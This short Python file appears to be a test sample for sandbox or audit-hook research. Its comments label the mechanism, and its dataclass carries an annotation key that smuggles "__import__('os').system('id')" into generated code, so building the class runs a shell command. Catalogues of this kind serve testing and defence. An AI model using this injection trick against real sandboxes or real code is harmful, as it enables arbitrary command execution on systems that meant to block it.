# class: string-address
# mechanism: names of fields that are computed
# how: the annotations of a data class
# reaches: event os.system
from dataclasses import dataclass
@dataclass(init=False, eq=False)
class A:
    __annotations__ = {"__class__, __import__('os').system('id')": int}
print(A())
